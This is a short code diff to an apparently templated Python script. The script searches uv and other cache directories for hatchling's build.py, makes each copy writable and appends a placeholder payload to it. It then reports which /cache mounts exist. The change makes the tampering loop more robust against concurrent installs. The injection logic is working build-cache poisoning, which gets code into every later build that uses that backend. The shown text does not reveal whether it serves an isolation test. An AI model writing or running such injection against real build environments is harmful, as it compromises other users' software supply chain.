@@ -44,9 +44,12 @@ import pathlib
 PAYLOAD = """{HOOK}"""
 roots = {{os.environ.get("UV_CACHE_DIR"), "/cache", "/opt/wheelwright", str(pathlib.Path.home())}}
 for root in filter(None, roots):
-    for path in pathlib.Path(root).glob("**/hatchling/build.py"):
-        path.chmod(0o644)
-        path.write_text(path.read_text() + "\\nimport pathlib\\n" + PAYLOAD)
+    # os.walk goes on where a directory vanishes: another step installs into the same cache.
+    for directory, _, names in os.walk(root):
+        path = pathlib.Path(directory, "build.py")
+        if path.parent.name == "hatchling" and path.name in names:
+            path.chmod(0o644)
+            path.write_text(path.read_text() + "\\nimport pathlib\\n" + PAYLOAD)
 mounted = [line.split()[1] for line in open("/proc/self/mounts") if "/cache" in line.split()[1]]
 print("@WHO@ found mounted:", mounted)
 '''
